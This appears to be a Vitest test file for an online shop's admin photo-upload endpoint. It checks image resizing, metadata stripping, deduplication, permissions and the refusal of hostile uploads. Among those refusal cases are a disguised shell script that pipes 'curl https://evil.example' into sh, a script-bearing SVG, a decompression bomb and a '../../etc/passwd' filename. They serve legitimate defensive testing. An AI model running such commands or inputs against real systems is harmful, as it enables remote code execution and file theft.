import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { REFUSALS, type RefusalCode, refusalWords } from "#core/refusals";
import { uploadedImageSchema } from "#core/schemas/upload";
import { MAX_UPLOAD_WIDTH, UPLOAD_FORMATS, uploadedImageUrl, uploadWidths } from "#core/uploaded-image";
import { serveTestApp } from "../../testing/serve-test-app";
import { createTestApp, type TestApp } from "../../testing/test-app";
import {
  colorDistance,
  decompressionBombPng,
  hasGpsPointer,
  photoForm,
  storedFiles,
  svgWithScript,
  testPhoto,
} from "../../testing/test-photos";

/** Every file and folder under `dir`, but the scratch folder itself, which may stay (empty). */
/** The colour test photos are made of. */
const MADE_OF = { r: 176, g: 128, b: 64 };

function everythingStored(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { recursive: true, encoding: "utf8" })
    .filter((entry) => entry !== ".incoming")
    .sort();
}

describe("POST /api/uploads", () => {
  let dir: string;
  let t: TestApp;
  let token: string;
  beforeEach(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "shop-uploads-"));
    t = await createTestApp({ sampleData: false, uploadsDir: dir });
    token = await t.login();
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const upload = (body: BodyInit, init: RequestInit & { token?: string } = {}) =>
    t.request("/api/uploads", { method: "POST", token, body, ...init });

  it("stores a photo at every width below its own and its own, in AVIF, WebP and JPEG", async () => {
    const photo = await testPhoto({ width: 1200, height: 800 });
    const response = await upload(photoForm(photo));
    expect(response.status).toBe(201);
    const answer = uploadedImageSchema.parse(await response.json());
    expect(answer).toMatchObject({ width: 1200, height: 800 });
    expect(answer.url).toBe(uploadedImageUrl(answer));
    expect(colorDistance(answer.color, MADE_OF)).toBeLessThan(40);

    const widths = uploadWidths(1200);
    expect(widths).toEqual([320, 480, 750, 1080, 1200]);
    const files = storedFiles(path.join(dir, answer.hash));
    expect(Object.keys(files).sort()).toEqual(
      [
        ...widths.flatMap((width) => UPLOAD_FORMATS.map((format) => `${width}.${format}`)),
        "photo.json",
      ].sort(),
    );
    for (const width of widths)
      for (const [format, read] of [
        ["avif", "heif"],
        ["webp", "webp"],
        ["jpg", "jpeg"],
      ] as const) {
        const metadata = await sharp(path.join(dir, answer.hash, `${width}.${format}`)).metadata();
        expect(metadata).toMatchObject({ format: read, width, height: Math.round((width * 800) / 1200) });
      }
  });

  it("never stores a width above the photo's own, nor above the widest the site shows", async () => {
    const small = uploadedImageSchema.parse(
      await (await upload(photoForm(await testPhoto({ width: 400, height: 560 })))).json(),
    );
    expect(small).toMatchObject({ width: 400, height: 560 });
    expect(Object.keys(storedFiles(path.join(dir, small.hash))).sort()).toEqual([
      "320.avif",
      "320.jpg",
      "320.webp",
      "400.avif",
      "400.jpg",
      "400.webp",
      "photo.json",
    ]);

    const wide = uploadedImageSchema.parse(
      await (await upload(photoForm(await testPhoto({ width: 2400, height: 1800 }), "wide.png"))).json(),
    );
    expect(wide).toMatchObject({ width: MAX_UPLOAD_WIDTH, height: 1200 });
    const widest = await sharp(path.join(dir, wide.hash, `${MAX_UPLOAD_WIDTH}.jpg`)).metadata();
    expect(widest.width).toBe(MAX_UPLOAD_WIDTH);
  });

  it("turns the photo upright and keeps no EXIF, GPS or colour profile in any variant", async () => {
    // Stored sideways, 900×600, with the EXIF note "turn 90° clockwise to view", as phones do.
    const photo = await testPhoto({ width: 900, height: 600, orientation: 6, gps: true, p3: true });
    const sent = await sharp(photo).metadata();
    expect(sent.orientation).toBe(6);
    expect(sent.exif && hasGpsPointer(sent.exif)).toBe(true);
    expect(sent.icc).toBeDefined();

    const answer = uploadedImageSchema.parse(await (await upload(photoForm(photo))).json());
    expect(answer).toMatchObject({ width: 600, height: 900 });
    for (const name of Object.keys(storedFiles(path.join(dir, answer.hash))).filter(
      (file) => file !== "photo.json",
    )) {
      const stored = await sharp(path.join(dir, answer.hash, name)).metadata();
      expect([stored.exif, stored.icc, stored.xmp], name).toEqual([undefined, undefined, undefined]);
      expect(stored.orientation ?? 1, name).toBe(1);
      expect(stored.height, name).toBeGreaterThan(stored.width ?? Number.POSITIVE_INFINITY);
    }
    // Read through its Display P3 profile, the colour stays the one the photo was made of.
    const [r = 0, g = 0, b = 0] = (await sharp(path.join(dir, answer.hash, "600.jpg")).stats()).channels.map(
      (channel) => channel.mean,
    );
    expect(colorDistance(answer.color, MADE_OF)).toBeLessThan(40);
    expect(Math.abs(r - MADE_OF.r) + Math.abs(g - MADE_OF.g) + Math.abs(b - MADE_OF.b)).toBeLessThan(12);
  });

  it.each(["png", "webp", "avif"] as const)("takes a %s photo, whatever its name says", async (format) => {
    const response = await upload(
      photoForm(await testPhoto({ width: 400, height: 300, format }), "photo.txt"),
    );
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({ width: 400, height: 300 });
  });

  it("stores the same photo once, answering it again without building it again", async () => {
    const photo = await testPhoto();
    const first = await (await upload(photoForm(photo, "first.jpg"))).json();
    const folder = path.join(dir, (first as { hash: string }).hash);
    const built = fs.statSync(path.join(folder, "900.avif"));

    const second = await upload(photoForm(photo, "the-same-again.jpg"));
    expect(second.status).toBe(201);
    expect(await second.json()).toEqual(first);
    expect(fs.readdirSync(dir).filter((name) => name !== ".incoming")).toHaveLength(1);
    const after = fs.statSync(path.join(folder, "900.avif"));
    expect({ ino: after.ino, mtimeMs: after.mtimeMs }).toEqual({ ino: built.ino, mtimeMs: built.mtimeMs });
  });

  it("builds the same photo once when it arrives twice at the same time", async () => {
    const photo = await testPhoto({ width: 700, height: 500 });
    const [a, b] = await Promise.all([upload(photoForm(photo)), upload(photoForm(photo))]);
    expect([a.status, b.status]).toEqual([201, 201]);
    expect(await a.json()).toEqual(await b.json());
    expect(everythingStored(dir).filter((entry) => !entry.includes(path.sep))).toHaveLength(1);
  });

  it("keeps stored photos private to the server's account", async () => {
    const { hash } = uploadedImageSchema.parse(await (await upload(photoForm(await testPhoto()))).json());
    expect(fs.statSync(dir).mode & 0o777).toBe(0o700);
    expect(fs.statSync(path.join(dir, hash)).mode & 0o777).toBe(0o700);
    for (const name of fs.readdirSync(path.join(dir, hash)))
      expect(fs.statSync(path.join(dir, hash, name)).mode & 0o777, name).toBe(0o600);
  });

  it("is for a signed-in admin only", async () => {
    const response = await upload(photoForm(await testPhoto()), { token: undefined });
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ error: "Sign in to continue", code: "sessionMissing" });
    expect(everythingStored(dir)).toEqual([]);
  });

  const hostile: [string, () => Promise<BodyInit>, number, string][] = [
    [
      "a script named .jpg",
      async () => photoForm(Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"), "necklace.jpg"),
      415,
      refusalWords("photoNotAPhoto"),
    ],
    [
      "an SVG with a script in it",
      async () => photoForm(svgWithScript, "logo.svg"),
      415,
      refusalWords("photoNotAPhoto"),
    ],
    [
      "the same SVG named .png",
      async () => photoForm(svgWithScript, "logo.png"),
      415,
      refusalWords("photoNotAPhoto"),
    ],
    [
      "a GIF",
      async () => photoForm(await testPhoto({ format: "gif" }), "ring.gif"),
      415,
      refusalWords("photoNotAPhoto"),
    ],
    [
      "an empty file",
      async () => photoForm(Buffer.alloc(0), "empty.jpg"),
      415,
      refusalWords("photoNotAPhoto"),
    ],
    [
      "a small PNG that inflates to 30000×30000",
      async () => photoForm(decompressionBombPng(30_000, 30_000), "bomb.png"),
      413,
      refusalWords("photoTooManyPixels"),
    ],
    [
      "a truncated JPEG",
      async () => {
        const photo = await testPhoto();
        return photoForm(photo.subarray(0, Math.floor(photo.length * 0.6)), "cut.jpg");
      },
      422,
      refusalWords("photoDamaged"),
    ],
    [
      "a 40 MB file",
      async () => photoForm(Buffer.alloc(40 * 1024 * 1024, 0xff), "huge.jpg"),
      413,
      refusalWords("photoTooLarge"),
    ],
    [
      "a file just over 15 MB",
      async () => photoForm(Buffer.alloc(15 * 1024 * 1024 + 1, 0xff), "big.jpg"),
      413,
      refusalWords("photoTooLarge"),
    ],
    [
      "a name with ../ in it",
      async () => photoForm(await testPhoto(), "../../etc/passwd.jpg"),
      400,
      refusalWords("photoBadName"),
    ],
    [
      "a name with a folder in it",
      async () => photoForm(await testPhoto(), "photos/ring.jpg"),
      400,
      refusalWords("photoBadName"),
    ],
    [
      "a name with a backslash",
      async () => photoForm(await testPhoto(), "C:\\ring.jpg"),
      400,
      refusalWords("photoBadName"),
    ],
    [
      "a name with a control character",
      async () => photoForm(await testPhoto(), "ring\u0007.jpg"),
      400,
      refusalWords("photoBadName"),
    ],
    [
      "no photo field",
      async () => photoForm(await testPhoto(), "ring.jpg", "image"),
      400,
      refusalWords("photoMissing"),
    ],
    [
      "a form with no file chosen",
      async () => {
        const form = new FormData();
        form.append("photo", new Blob([]), "");
        return form;
      },
      400,
      refusalWords("photoMissing"),
    ],
    [
      "the photo as text",
      async () => {
        const form = new FormData();
        form.append("photo", "/images/sample/ring-gold.svg");
        return form;
      },
      400,
      refusalWords("photoMissing"),
    ],
    [
      "two photos",
      async () => {
        const form = photoForm(await testPhoto());
        form.append("photo", new Blob([new Uint8Array(await testPhoto({ width: 300 }))]), "second.jpg");
        return form;
      },
      400,
      refusalWords("photoTooManyFiles"),
    ],
    [
      "a photo and another file",
      async () => {
        const form = photoForm(await testPhoto());
        form.append("extra", new Blob([new Uint8Array(await testPhoto({ width: 300 }))]), "second.jpg");
        return form;
      },
      400,
      refusalWords("photoTooManyFiles"),
    ],
  ];

  it.each(hostile)("refuses %s with a clear error and stores nothing", async (_, body, status, error) => {
    const response = await upload(await body());
    expect(response.status).toBe(status);
    // The code names the refusal, for the admin to word it in its own language.
    const answer = (await response.json()) as { error: string; code: RefusalCode };
    expect(answer).toEqual({ error, code: expect.stringMatching(/^photo/) });
    expect(REFUSALS[answer.code]).toEqual([status, error]);
    expect(everythingStored(dir)).toEqual([]);
  });

  it("refuses a body that is not a form", async () => {
    const response = await t.request("/api/uploads", { method: "POST", token, json: { photo: "ring.jpg" } });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ error: refusalWords("photoMissing"), code: "photoMissing" });
  });

  it("refuses a body over the limit by its declared length, before reading it, and closes the connection", async () => {
    const response = await upload("x", { headers: { "content-length": String(40 * 1024 * 1024) } });
    expect(response.status).toBe(413);
    expect(response.headers.get("connection")).toBe("close");
    expect(await response.json()).toEqual({ error: refusalWords("photoTooLarge"), code: "photoTooLarge" });
  });

  it("keeps every other call's body limit", async () => {
    const response = await t.request("/api/jewelry", {
      method: "POST",
      token,
      json: { name: "x".repeat(100 * 1024) },
    });
    expect(response.status).toBe(413);
    expect(await response.json()).toEqual({ error: "The request body is too large (64 kB at most)" });
  });
});

describe("an anonymous upload on a keep-alive connection", () => {
  // A phone's upload arrives slowly: a refusal sent before the body ends would have the server give
  // up draining it after 500 ms and drop the connection under the upload still being sent.
  it("is read at the sender's pace and dropped, refused, and leaves the connection usable", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "shop-uploads-"));
    const served = await serveTestApp({ sampleData: false, uploadsDir: dir });
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    try {
      const half = Buffer.alloc(1024 * 1024, 1);
      const send = (method: string, target: string, payload?: Buffer) =>
        new Promise<{ status: number; reused: boolean }>((resolve, reject) => {
          const request = http.request(`${served.url}${target}`, {
            agent,
            method,
            headers: payload ? { "content-type": "multipart/form-data; boundary=x" } : {},
          });
          request.once("error", reject);
          request.once("response", (response) => {
            response.resume();
            response.once("end", () =>
              resolve({ status: response.statusCode ?? 0, reused: request.reusedSocket }),
            );
          });
          if (!payload) return request.end();
          request.write(payload);
          setTimeout(() => request.end(payload), 800);
        });
      expect(await send("POST", "/api/uploads", half)).toEqual({ status: 401, reused: false });
      expect(await send("GET", "/api/health")).toEqual({ status: 200, reused: true });
      expect(everythingStored(dir)).toEqual([]);
    } finally {
      agent.destroy();
      await served.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
